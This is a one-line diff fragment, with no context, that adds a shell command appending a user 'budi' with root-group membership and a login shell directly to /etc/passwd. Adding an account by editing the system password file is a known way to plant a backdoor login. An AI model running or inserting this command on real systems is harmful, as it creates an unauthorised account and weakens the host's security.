@@ -1,0 +1,1 @@
+echo 'budi:x:1500:00::/home/budi:/bin/sh' >>/etc/passwd
